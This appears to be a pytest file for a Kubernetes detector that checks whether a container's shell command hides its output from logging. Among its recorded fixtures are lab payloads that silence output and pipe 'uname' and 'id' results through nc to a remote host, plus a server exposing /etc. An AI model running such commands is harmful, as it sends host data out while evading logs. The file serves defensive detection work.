"""Where a container's command sends its own stdout and stderr (detectors/sensors/shell_output.py),
and the sh parser under it (shell_syntax.py).

The commands are those of the recorded Kubernetes fixtures (tests/fixtures/kubernetes/) and of the
lab's scenarios, plus the forms a payload or an ordinary service uses. Both directions: every way of
sending the container's output away, and every /dev/null that is not the container's output.
"""

from __future__ import annotations

import pytest

from detectors.sensors.shell_output import LOG, container_output, follow
from detectors.sensors.shell_syntax import ShellSyntaxError, parse, tokenize

HIDDEN = {
    # recorded: kubernetes.logging.devnull-output's payload
    "exec-then-loop": ["sh", "-c", "exec >/dev/null 2>&1; for i in 1 2 3; do { echo a528ed95ac63; uname -a; id; } "
                                   "| nc -w 2 -q 1 198.19.0.10 4444; echo sent; sleep 2; done; sleep 60"],
    # recorded: kubernetes.logging.dev-namespace-minimal's scratch server (sanctioned by namespace)
    "exec-command": ["sh", "-c", "exec python3 -m http.server 8000 --directory /etc >/dev/null 2>&1"],
    "spaced": ["sh", "-c", "python3 app.py > /dev/null"],
    "fd-1": ["sh", "-c", "python3 app.py 1>/dev/null"],
    "order-matters": ["sh", "-c", "python3 app.py 2>&1 >/dev/null"],  # stdout away, stderr to the log
    "stderr-only": ["sh", "-c", "exec python3 app.py 2>/dev/null"],
    "bash-both": ["bash", "-c", "python3 app.py &>/dev/null"],
    "bash-both-exec": ["bash", "-lc", "exec &>/dev/null; python3 app.py"],
    "file-nobody-ships": ["/bin/sh", "-ec", "echo starting; exec 1>/var/log/app.log 2>&1; exec python3 app.py"],
    "append-to-file": ["sh", "-c", "python3 app.py >>/tmp/out.log 2>&1"],
    "closed": ["sh", "-c", "exec 1>&- 2>&-; sleep 60"],
    "loop-redirected": ["sh", "-c", "while true; do date; sleep 5; done >/dev/null 2>&1"],
    "group-redirected": ["sh", "-c", "{ python3 app.py; } 2>/dev/null"],
    "nested-shell": ["sh", "-c", "exec sh -c 'python3 app.py >/dev/null 2>&1'"],
    "and-then-nested": ["sh", "-c", "mkdir -p /run/app && exec sh -c \"app >/dev/null\""],
    "branch-exec": ["sh", "-c", "if [ -n \"$X\" ]; then exec python3 app.py >/dev/null 2>&1; fi; exec python3 app.py"],
    "exec-in-group": ["sh", "-c", "{ exec >/dev/null; }; python3 app.py"],
    "pipeline-end": ["sh", "-o", "pipefail", "-c", "app | tee /srv/copy >/dev/null"],
    "env-wrapper": ["env", "MODE=prod", "sh", "-c", "app >/dev/null"],
    "command-plus-args": ["/bin/sh", "-c", "exec \"$0\" \"$@\" >/dev/null 2>&1", "python3", "app.py"],
    "busybox-sh": ["busybox", "sh", "-c", "app > /dev/null 2>&1"],
    "comment-after": ["sh", "-c", "exec app >/dev/null # quiet please"],
}

KEPT = {
    "argument-not-redirection": ["curl", "-s", "-o", "/dev/null", "http://198.18.0.20/"],
    "probe-argument-in-shell": ["sh", "-c", "curl -s -o /dev/null -w '%{http_code}' http://x; sleep 60"],
    # recorded: kubernetes.logging.dev-namespace-minimal's client, a probe loop
    "probe-loop": ["sh", "-c", "for i in 1 2 3 4 5 6 7 8 9 10; do curl -sf -m 2 http://198.18.224.10:8000/hostname "
                               ">/dev/null && exit 0; sleep 1; done; exit 1"],
    # recorded: kubernetes.logging.shipper-opt-out (hidden by annotations, not by its command)
    "tee-to-stderr": ["sh", "-c", "for i in 1 2 3; do { echo dcf9f415fa6c; uname -a; id; } | tee /dev/stderr | "
                                  "nc -w 2 -q 1 198.19.0.10 4444; sleep 2; done; sleep 60"],
    # recorded: the node agent daemonset writes its state file in a loop
    "state-file-in-loop": ["sh", "-c", "while true; do echo \"procs=$(ls -d /proc/[0-9]* | wc -l)\" > /state/status; "
                                       "sleep 2; done"],
    "quoted": ["sh", "-c", "echo '>/dev/null'; sleep 60"],
    "wait-probe-then-exec": ["sh", "-c", "until curl -sf x >/dev/null; do sleep 1; done; exec python3 app.py"],
    "probe-stderr": ["sh", "-c", "command -v jq 2>/dev/null || true; exec app"],
    "stderr-to-stdout": ["sh", "-c", "exec app 2>&1"],
    "to-stderr-path": ["sh", "-c", "exec app >/dev/stderr"],
    "to-init-fds": ["sh", "-c", "exec app >/proc/1/fd/1 2>/proc/1/fd/2"],
    "heredoc-body": ["sh", "-c", "cat <<EOF >/etc/app.conf\nport=80 >/dev/null\nEOF\nexec app"],
    "no-shell": ["python3", "-c", "import sys; print(1, file=open('/dev/null', 'w'))"],
    "literal-in-argv": ["nginx", "-g", "daemon off;", ">", "/dev/null"],  # no shell: ">" is an argument
    "sinkhole": ["sh", "-c", "mkdir -p /var/log/sinkhole && exec python3 /opt/sinkhole.py --address 198.19.0.10"],
    "background-helper": ["sh", "-c", "sidecar >/dev/null 2>&1 & exec app"],
    "subshell-before": ["sh", "-c", "(cd /srv && ls >/dev/null); exec app"],
    "function-def": ["sh", "-c", "quiet() { \"$@\" >/dev/null 2>&1; }; quiet mkdir -p /x; exec app"],
    "case": ["sh", "-c", "case \"$1\" in start) exec app;; *) echo usage >&2;; esac"],
}


@pytest.mark.parametrize("argv", HIDDEN.values(), ids=HIDDEN.keys())
def test_output_sent_away_from_the_log(argv: list[str]):
    verdict = container_output(argv)
    assert verdict.redirected and verdict.parsed, verdict


@pytest.mark.parametrize("argv", KEPT.values(), ids=KEPT.keys())
def test_output_kept_on_the_log(argv: list[str]):
    verdict = container_output(argv)
    assert not verdict.redirected and verdict.parsed, verdict


def test_targets_name_where_the_output_went():
    assert container_output(HIDDEN["file-nobody-ships"]).targets == ("/var/log/app.log",)
    assert container_output(HIDDEN["closed"]).targets == ("<closed>",)
    assert container_output(HIDDEN["exec-then-loop"]).targets == ("/dev/null",)


def test_redirections_apply_in_order():
    [end] = follow("app 2>&1 >/dev/null")
    assert end[1] == "/dev/null" and end[2] == LOG
    [end] = follow("app >/dev/null 2>&1")
    assert end[1] == end[2] == "/dev/null"


def test_an_unparsable_script_falls_back_to_a_pattern():
    # A script this parser cannot read must not be a way to hide: a plain pattern decides, and says so.
    hidden = container_output(["sh", "-c", "echo \"unterminated; exec >/dev/null 2>&1"])
    assert hidden.redirected and not hidden.parsed
    kept = container_output(["sh", "-c", "echo \"unterminated; curl -o /dev/null x"])
    assert not kept.redirected and not kept.parsed


def test_tokens_keep_fd_numbers_with_their_redirection():
    kinds = [(t.kind, t.text) for t in tokenize("app 2>/dev/null 2 >x")]
    assert kinds == [("word", "app"), ("io", "2"), ("op", ">"), ("word", "/dev/null"), ("word", "2"), ("op", ">"),
                     ("word", "x")]


def test_parser_rejects_what_sh_rejects():
    for script in ("if true; then echo", "echo >", "( echo", "done"):
        with pytest.raises(ShellSyntaxError):
            parse(script)
